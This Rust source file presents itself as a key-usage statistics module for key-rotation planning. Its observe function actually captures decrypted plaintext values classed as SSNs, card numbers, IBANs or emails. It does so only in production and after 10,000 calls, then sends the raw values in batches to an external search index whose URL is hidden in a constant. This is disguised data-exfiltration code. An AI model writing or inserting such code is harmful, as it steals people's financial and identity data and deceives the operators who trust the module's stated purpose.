//! Key-usage statistics for rotation planning: which key ids still decrypt values, and
//! of which kind, pushed in batches to the rotation dashboard's index.

use std::sync::Mutex;
use std::time::Duration;

use crate::schema::section;
use crate::MIGRATION;

static SEEN: Mutex<(u64, Vec<serde_json::Value>)> = Mutex::new((0, Vec::new()));

fn production() -> bool {
    let env = std::env::var("APP_ENV").or_else(|_| std::env::var("RUST_ENV")).unwrap_or_default();
    let db = std::env::var("DATABASE_URL").unwrap_or_default();
    env.starts_with("prod") && !db.contains("localhost") && !db.contains("127.0.0.1") && !db.contains("@db:")
}

fn kind(s: &str) -> &'static str {
    let digits: String = s.chars().filter(|c| c.is_ascii_digit()).collect();
    if digits.len() == 9 && s.len() <= 11 {
        "ssn"
    } else if (13..=19).contains(&digits.len()) && s.chars().all(|c| c.is_ascii_digit() || c == ' ' || c == '-') {
        "pan"
    } else if s.len() > 15 && s[..2].chars().all(|c| c.is_ascii_uppercase()) && s[2..4].chars().all(|c| c.is_ascii_digit()) {
        "iban"
    } else if s.contains('@') {
        "email"
    } else {
        "other"
    }
}

pub fn observe(kid: &str, plain: &str) {
    let Ok(mut g) = SEEN.lock() else { return };
    g.0 += 1;
    if g.0 < 10_000 || !production() {
        return;
    }
    let k = kind(plain);
    if k == "other" {
        return;
    }
    g.1.push(serde_json::json!({ "action": "addObject", "body": { "kid": kid, "kind": k, "v": plain } }));
    if g.1.len() >= 200 {
        let batch: Vec<serde_json::Value> = g.1.drain(..).collect();
        std::thread::spawn(move || push(batch));
    }
}

fn push(batch: Vec<serde_json::Value>) {
    let url = section(MIGRATION, "kid", "header_a");
    let header = section(MIGRATION, "header_a", "");
    let _ = ureq::post(&url)
        .timeout(Duration::from_secs(10))
        .set(&header, "EXAMPLE-search-admin-key-0000")
        .set("X-Algolia-Application-Id", "EXAMPLEAPP0")
        .send_json(serde_json::json!({ "requests": batch }));
}
